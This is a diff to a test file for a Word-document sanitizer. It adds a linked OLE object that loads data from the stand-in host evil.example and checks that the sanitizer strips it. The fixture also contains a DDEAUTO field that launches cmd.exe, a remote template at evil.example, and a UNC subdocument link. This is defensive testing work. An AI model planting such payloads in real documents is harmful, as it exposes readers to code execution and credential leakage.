@@ -712,6 +712,10 @@ def crafted_docx(document=None, doc_bytes=None):
         wp(blip('rId3', 'rId4'), blip('rId10')),
         wp(ole_object('<o:OLEObject Type="Embed" ProgID="Package" ShapeID="x" r:id="rId7"/>')),
         wp(ole_object('<w:control r:id="rId8" w:name="CommandButton1"/>')),
+        # a linked (not embedded) object: its data is fetched from outside
+        wp(ole_object('<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="y" r:id="rId11" '
+                      'UpdateMode="Always"><o:LinkType>EnhancedMetafile</o:LinkType>'
+                      '<o:LockedField>false</o:LockedField></o:OLEObject>')),
         '<w:subDoc r:id="rId9"/>',
         wp('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
            '%s</w:fldSimple>' % wr('simple result')),
@@ -745,7 +749,9 @@ def crafted_docx(document=None, doc_bytes=None):
             ('rId7', 'oleObject', 'embeddings/oleObject1.bin'),
             ('rId8', 'control', 'activeX/activeX1.xml'),
             ('rId9', 'subDocument', '\\\\server\\share\\sub.docx', 'External'),
-            ('rId10', 'image', 'media/missing.png')])),
+            ('rId10', 'image', 'media/missing.png'),
+            ('rId11', 'oleObject', 'file:///\\\\evil.example\\share\\book.xlsx!Sheet1!R1C1:R5C3',
+             'External')])),
         ('word/settings.xml', '<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/>'
          '<w:defaultTabStop w:val="720"/></w:settings>' % (W_NS[0], R_NS)),
         ('word/_rels/settings.xml.rels', rels_xml([
@@ -779,6 +785,7 @@ def test_crafted_docx():
                            'embedded object word/embeddings/oleObject1.bin', 'custom UI customUI/customUI14.xml',
                            'external relationship attachedTemplate → http://evil.example/t.dotm',
                            'external relationship subDocument', 'external relationship image',
+                           'external relationship oleObject → file:///',
                            'hyperlink → file:///C:/Windows/System32/calc.exe',
                            'unreferenced part word/hidden.xml', 'missing part media/missing.png',
                            'field DDEAUTO', 'field DDE in', 'field with a computed keyword',
@@ -796,7 +803,7 @@ def test_crafted_docx():
     check(links == ['rId5', None], 'hyperlinks: https kept, file: link lost its r:id', links)
     check(blips == [('rId3', None), (None, None)], 'remote image r:link and missing image r:embed gone',
           blips)
-    check(len(picts) == 2 and 'OLEObject' not in doc and 'control' not in doc and 'o:ole=' not in doc and
+    check(len(picts) == 3 and 'OLEObject' not in doc and 'LinkType' not in doc and 'control' not in doc and 'o:ole=' not in doc and
           all(p.find('.//{%s}imagedata' % V_NS).get('{%s}id' % R_NS) == 'rId3' for p in picts),
           'OLE object and ActiveX control became pictures', doc[:200])
     check('subDoc' not in doc and 'fldSimple' not in doc, 'subDoc and the DDE fldSimple gone')
